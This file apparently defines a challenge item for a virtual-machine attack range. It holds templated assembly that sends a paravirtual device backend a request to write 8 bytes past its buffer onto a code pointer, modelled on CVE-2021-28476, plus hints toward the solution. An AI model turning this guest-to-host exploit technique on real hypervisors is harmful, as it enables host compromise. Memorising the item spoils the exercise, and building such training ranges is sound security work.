"""A request to the backend of a paravirtual device that nobody looks at."""

from vmwidgets.model.range.attack import Attack
from vmwidgets.model.words import said

BACKEND_REQUEST = Attack(
    id="backend_request",
    title=said("a request to the backend that writes past its buffer"),
    code="""
    mov rsi, {page_bytes}
    mov rax, 8
    shl rax, 32                 ; 8 bytes
    add rax, {backend_bytes}    ; that belong behind the buffer,
    add rax, {backend_distance} ; where the address of code lies
    mov [rsi], rax
    lea rdi, [rsi + 16]
    mov [rsi + 8], rdi
    mov rax, 0x4141414141414141
    mov [rdi], rax
    mov rdx, {port_backend}
    mov rax, rsi
    out dx, eax
    inc rdx
    mov rax, 1
    out dx, eax
""",
    family="V2",
    number=5,
    like="CVE-2021-28476",
    hints=(
        said("Who is at the other end of your network device, and what else does he have in his memory?"),
        said("A request says itself where its data belong. The trace shows whether anybody compares."),
        said("Ask for 8 bytes at backend_bytes + backend_distance: the backend then goes where they say."),
    ),
)
"""Puts 8 bytes where the backend keeps the address of its code."""
